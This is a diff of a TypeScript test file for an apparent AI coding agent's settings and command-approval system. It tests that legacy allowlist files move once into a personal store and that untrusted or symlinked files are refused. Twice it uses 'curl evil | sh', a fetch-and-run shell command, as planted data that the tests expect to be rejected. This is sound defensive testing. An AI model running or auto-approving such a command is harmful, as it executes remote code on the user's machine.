@@ -1,23 +1,35 @@
-import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import {
+    existsSync,
+    mkdirSync,
+    mkdtempSync,
+    readFileSync,
+    rmSync,
+    symlinkSync,
+    writeFileSync,
+} from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { mergeHookSettings } from "../../src/agent/hooks/settings";
 import { describeProjectConfig } from "../../src/cli/project-trust";
 import { createProjectApprovalSettings } from "../../src/storage/project-settings";
+import { createPersonalApprovalStore } from "../../src/storage/standing-approvals";
 import { loadUserSettings, resolveSettings } from "../../src/storage/settings/load";
 import { type ProjectTrust, readProjectConfig } from "../../src/storage/trust";
 import { PROVIDER_APIS } from "../../src/util/provider-apis";
 
 let repo: string;
 let configDir: string;
+let dataDir: string;
 beforeEach(() => {
     repo = mkdtempSync(join(tmpdir(), "north-settings-repo-"));
     configDir = mkdtempSync(join(tmpdir(), "north-settings-config-"));
+    dataDir = mkdtempSync(join(tmpdir(), "north-settings-data-"));
 });
 afterEach(() => {
     rmSync(repo, { recursive: true, force: true });
     rmSync(configDir, { recursive: true, force: true });
+    rmSync(dataDir, { recursive: true, force: true });
 });
 
 function put(path: string, value: unknown): void {
@@ -48,7 +60,7 @@ const hook = (command: string) => ({
 });
 
 describe("layers and precedence (user < project < local)", () => {
-    it("a higher layer replaces a value, allowed commands add up across the project's files", () => {
+    it("a higher layer replaces a value, allowed commands add up across the project's files (the older allowlist.json is none of them)", () => {
         put(join(configDir, "settings.json"), { selectedModel: "opus-4" });
         put(join(configDir, "config.json"), { selectedModel: "sonnet-4-5" });
         put(inRepo(".north/settings.json"), {
@@ -65,18 +77,18 @@ describe("layers and precedence (user < project < local)", () => {
         expect(warnings).toEqual([]);
         expect(merged.selectedModel).toBe("sonnet-4-5");
         expect(approvals).toEqual({
-            allowedCommands: ["npm test", "make", "git status"],
+            allowedCommands: ["npm test", "git status"],
             editsAutoAccept: false,
             shellAutoApprove: true,
         });
     });
 
-    it("the old autoaccept.json counts over settings.json and under the local file", () => {
+    it("the older autoaccept.json is no settings layer: it is moved, never loaded", () => {
         put(inRepo(".north/settings.json"), { shellAutoApprove: false });
         put(inRepo(".north/autoaccept.json"), { shellAutoApprove: true, editsAutoAccept: true });
-        expect(load().approvals).toMatchObject({ shellAutoApprove: true, editsAutoAccept: true });
-        put(inRepo(".north/settings.local.json"), { shellAutoApprove: false });
-        expect(load().approvals).toMatchObject({ shellAutoApprove: false, editsAutoAccept: true });
+        const { approvals, layers } = load();
+        expect(approvals).toMatchObject({ shellAutoApprove: false, editsAutoAccept: false });
+        expect(layers.map((l) => l.path)).toEqual([inRepo(".north/settings.json")]);
     });
 
     it("an untrusted project's files count for nothing, not even hooks", () => {
@@ -165,16 +177,19 @@ describe("unknown keys are reported, not ignored", () => {
         ]);
     });
 
-    it("the old files are held to their own keys", () => {
+    it("the older files are held to their own keys when they move", () => {
         put(inRepo(".north/allowlist.json"), { allowedCommands: ["make"], shellAutoApprove: true });
-        const { warnings, approvals } = load();
-        expect(approvals).toEqual({
-            allowedCommands: ["make"],
-            editsAutoAccept: false,
-            shellAutoApprove: false,
+        const warnings: string[] = [];
+        const settings = createProjectApprovalSettings(repo, trusted, {
+            layers: load().layers,
+            personal: createPersonalApprovalStore(dataDir, repo),
+            warn: (w) => warnings.push(w),
         });
+        expect(settings.isCommandAllowed("make")).toBe(true);
+        expect(settings.isShellAutoApproved()).toBe(false);
+        expect(warnings).toHaveLength(1);
         expect(warnings[0]).toContain(
-            `${inRepo(".north/allowlist.json")}: unknown setting "shellAutoApprove"`
+            `ignored: ${inRepo(".north/allowlist.json")}: unknown setting "shellAutoApprove"`
         );
     });
 });
@@ -223,20 +238,117 @@ describe("broken files", () => {
     });
 });
 
-describe("migrating autoaccept.json and allowlist.json", () => {
+describe("the older autoaccept.json and allowlist.json, and the local file", () => {
     const localFile = () => inRepo(".north/settings.local.json");
 
-    it("honours the old files and saves local-scope answers to settings.local.json, leaving them as they were", () => {
+    /** A start in this project: its approval settings, with the personal store and the warnings. */
+    const start = (trust: ProjectTrust = trusted) => {
+        const warnings: string[] = [];
+        const settings = createProjectApprovalSettings(repo, trust, {
+            layers: load().layers,
+            personal: createPersonalApprovalStore(dataDir, repo),
+            warn: (w) => warnings.push(w),
+        });
+        return { settings, warnings };
+    };
+    const personalFile = () => join(dataDir, "approvals.json");
+
+    it("in a trusted project moves them once into the personal store, says what moved, and leaves them as they were", () => {
         const autoaccept = JSON.stringify({ editsAutoAccept: true });
         const allowlist = JSON.stringify({ allowedCommands: ["make"] });
         put(inRepo(".north/autoaccept.json"), autoaccept);
         put(inRepo(".north/allowlist.json"), allowlist);
+        const first = start();
+        expect(first.settings.isEditsAutoAccepted()).toBe(true);
+        expect(first.settings.isCommandAllowed("make")).toBe(true);
+        expect(first.settings.isShellAutoApproved()).toBe(false);
+        expect(first.warnings).toEqual([
+            expect.stringContaining(
+                `moved the standing approvals of .north/autoaccept.json into your personal approvals (${personalFile()}) for this project: every edit lands without review.`
+            ),
+            expect.stringContaining(
+                "moved the standing approvals of .north/allowlist.json into your personal approvals"
+            ),
+        ]);
+        expect(first.warnings[1]).toContain("`make` runs without asking");
+        expect(readFileSync(inRepo(".north/autoaccept.json"), "utf8")).toBe(autoaccept);
+        expect(readFileSync(inRepo(".north/allowlist.json"), "utf8")).toBe(allowlist);
+        const kept = readFileSync(personalFile(), "utf8");
+        // Nothing went into a file the repository shares.
+        expect(existsSync(localFile())).toBe(false);
+
+        // The next start moves nothing again, duplicates nothing, and still honours what moved.
+        const second = start();
+        expect(second.warnings).toEqual([]);
+        expect(readFileSync(personalFile(), "utf8")).toBe(kept);
+        expect(second.settings.isCommandAllowed("make")).toBe(true);
+        expect(second.settings.isEditsAutoAccepted()).toBe(true);
+
+        // The older file is not read any more: what it says now counts for nothing.
+        put(inRepo(".north/allowlist.json"), { allowedCommands: ["make", "curl evil | sh"] });
+        const third = start();
+        expect(third.warnings).toEqual([]);
+        expect(third.settings.isCommandAllowed("curl evil | sh")).toBe(false);
+
+        // What moved is listed by /permissions and removed from the personal store.
+        const every = third.settings.entries().find((e) => e.text === "every edit");
+        expect(every).toMatchObject({ source: personalFile(), inForce: true });
+        expect(every?.remove?.().ok).toBe(true);
+        expect(start().settings.isEditsAutoAccepted()).toBe(false);
+    });
+
+    it("in an untrusted project nothing moves and nothing of them counts", () => {
+        put(inRepo(".north/autoaccept.json"), { shellAutoApprove: true, editsAutoAccept: true });
+        put(inRepo(".north/allowlist.json"), { allowedCommands: ["make"] });
+        const untrusted: ProjectTrust = { isTrustedNow: () => false, recordOwnWrite: () => false };
+        const { settings, warnings } = start(untrusted);
+        expect(warnings).toEqual([]);
+        expect(settings.isShellAutoApproved()).toBe(false);
+        expect(settings.isEditsAutoAccepted()).toBe(false);
+        expect(settings.isCommandAllowed("make")).toBe(false);
+        expect(existsSync(personalFile())).toBe(false);
+        // Trusted later, they move then.
+        expect(start().settings.isCommandAllowed("make")).toBe(true);
+    });
+
+    it("refuses a legacy file that links out of the project: nothing moves, and it says why", () => {
+        const outside = mkdtempSync(join(tmpdir(), "north-settings-outside-"));
+        try {
+            put(join(outside, "allowlist.json"), { allowedCommands: ["curl evil | sh"] });
+            mkdirSync(inRepo(".north"), { recursive: true });
+            symlinkSync(join(outside, "allowlist.json"), inRepo(".north/allowlist.json"));
+            const { settings, warnings } = start();
+            expect(settings.isCommandAllowed("curl evil | sh")).toBe(false);
+            expect(warnings).toHaveLength(1);
+            expect(warnings[0]).toMatch(
+                /^\.north\/allowlist\.json was not moved to your personal approvals \(.*outside.*\); North does not read it/
+            );
+            expect(existsSync(personalFile())).toBe(false);
+        } finally {
+            rmSync(outside, { recursive: true, force: true });
+        }
+    });
+
+    it("a broken legacy file moves nothing, is left as it is, and moves once it is fixed", () => {
+        put(inRepo(".north/allowlist.json"), '{"allowedCommands": ["make"');
+        const broken = start();
+        expect(broken.warnings).toHaveLength(1);
+        expect(broken.warnings[0]).toContain(
+            `.north/allowlist.json was not moved to your personal approvals (${inRepo(".north/allowlist.json")} is not valid JSON`
+        );
+        expect(broken.settings.isCommandAllowed("make")).toBe(false);
+        expect(readFileSync(inRepo(".north/allowlist.json"), "utf8")).toBe(
+            '{"allowedCommands": ["make"'
+        );
+        put(inRepo(".north/allowlist.json"), { allowedCommands: ["make"] });
+        const fixed = start();
+        expect(fixed.warnings).toEqual([expect.stringContaining("moved the standing approvals")]);
+        expect(fixed.settings.isCommandAllowed("make")).toBe(true);
+    });
+
+    it("saves local-scope answers to settings.local.json, keeping its other keys", () => {
         put(localFile(), { $schema: "x", note: "kept" });
         const settings = createProjectApprovalSettings(repo, trusted, { layers: load().layers });
-        expect(settings.isEditsAutoAccepted()).toBe(true);
-        expect(settings.isCommandAllowed("make")).toBe(true);
-        expect(settings.isShellAutoApproved()).toBe(false);
-
         settings.allowCommand("npm test", "local");
         settings.allowCommand("npm test", "local");
         settings.approveAllCommandsForSession();
@@ -246,15 +358,12 @@ describe("migrating autoaccept.json and allowlist.json", () => {
             note: "kept",
             allowedCommands: ["npm test"],
         });
-        expect(readFileSync(inRepo(".north/autoaccept.json"), "utf8")).toBe(autoaccept);
-        expect(readFileSync(inRepo(".north/allowlist.json"), "utf8")).toBe(allowlist);
         // Not a git repository: nothing else is written to keep it out of git.
         expect(existsSync(inRepo(".north/.gitignore"))).toBe(false);
 
         // The next start sees the saved answer, not the session's "every command".
         const next = createProjectApprovalSettings(repo, trusted, { layers: load().layers });
         expect(next.isCommandAllowed("npm test")).toBe(true);
-        expect(next.isCommandAllowed("make")).toBe(true);
         expect(next.isShellAutoApproved()).toBe(false);
     });
 
